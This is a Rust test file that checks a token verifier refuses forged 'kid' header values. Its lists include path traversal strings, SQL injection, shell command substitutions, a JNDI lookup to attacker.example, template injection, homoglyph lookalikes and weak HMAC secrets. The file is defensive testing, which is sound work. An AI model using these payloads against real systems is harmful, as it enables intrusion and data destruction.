//! `kid` as a way in: it is looked up in a map, exactly, and goes nowhere else.

use serde_json::{Value, json};
use shared::access_token::{MAX_LENGTH, Refusal};

use crate::forge::{Forger, all, assert_refused, claims, encode, hmac256, ours, with, without};

#[test]
fn a_path_a_query_or_a_command_is_an_unknown_key() {
    for forger in all() {
        for kid in [
            "/dev/null",
            "../../../../../../dev/null",
            "..\\..\\windows\\win.ini",
            "file:///dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "https://attacker.example/key",
            "' OR '1'='1",
            "x' UNION SELECT 'attacker' --",
            "'; DROP TABLE keys; --",
            "| sleep 10",
            "$(id)",
            "`id`",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "%00",
            "\0",
            "__proto__",
            "constructor",
            "toString",
            "*",
            ".*",
            "",
            " ",
            "0",
            "null",
        ] {
            assert_refused(&forger.token_under(&with(forger.header(), "kid", json!(kid))), Refusal::UnknownKey, kid);
        }
    }
}

#[test]
fn a_kid_that_is_nearly_one_of_ours_is_an_unknown_key() {
    for forger in all() {
        let kid = &forger.kid;
        for near in [
            kid.to_uppercase(),
            format!("{kid} "),
            format!(" {kid}"),
            format!("{kid}\0"),
            format!("{kid}\0x"),
            format!("{kid}\n"),
            format!("{kid}/"),
            format!("./{kid}"),
            format!("{kid}#"),
            format!("{kid}\u{200d}"),
            kid.replace('s', "ѕ").replace('e', "е"),
            kid[..1].to_owned(),
            kid.repeat(2),
        ] {
            assert_refused(&forger.token_under(&with(forger.header(), "kid", json!(near))), Refusal::UnknownKey, &near);
        }
    }
}

#[test]
fn a_kid_is_a_single_text() {
    for forger in all() {
        let kid = &forger.kid;
        for value in
            [Value::Null, json!(0), json!(-1), json!(1.5), json!(true), json!([kid]), json!([]), json!({ "kid": kid })]
        {
            let why = value.to_string();
            assert_refused(&forger.token_under(&with(forger.header(), "kid", value)), Refusal::Header, &why);
        }
        assert_refused(&forger.token_under(&without(forger.header(), "kid")), Refusal::Header, "no kid");
    }
}

#[test]
fn a_long_kid_costs_nothing() {
    for forger in all() {
        let of = |length: usize| forger.token_under(&with(forger.header(), "kid", json!("k".repeat(length))));
        let long = of(1500);
        assert!(long.len() <= MAX_LENGTH);
        assert_refused(&long, Refusal::UnknownKey, "1.5 KB");
        assert_refused(&of(10_240), Refusal::TooLong, "10 KB");
    }
}

#[test]
fn the_kid_of_another_key_verifies_nothing() {
    for forger in all() {
        for other in all().filter(|other| other.kid != forger.kid) {
            let header = with(forger.header(), "kid", json!(other.kid));
            assert_refused(&forger.token_under(&header), Refusal::Algorithm, &other.kid);
            let disguised = with(header, "alg", json!(other.algorithm.name()));
            assert_refused(&forger.token_under(&disguised), Refusal::Signature, &other.kid);
        }
        assert_refused(&Forger::stranger(forger.algorithm).token(), Refusal::Signature, "a stranger of our name");
    }
}

#[test]
fn an_empty_or_well_known_secret_is_not_that_of_any_kid() {
    let forger = ours(shared::key::Algorithm::Hs256);
    for kid in ["/dev/null", "", &forger.kid] {
        for secret in ["", "\0", "secret", "password", "changeme", "your-256-bit-secret", "AAAA", "null", "undefined"] {
            let header = with(forger.header(), "kid", json!(kid)).to_string();
            let message = format!("{}.{}", encode(header), encode(claims().to_string()));
            let token = format!("{message}.{}", encode(hmac256(secret.as_bytes(), message.as_bytes())));
            let refusal = if kid == forger.kid { Refusal::Signature } else { Refusal::UnknownKey };
            assert_refused(&token, refusal, secret);
        }
    }
}
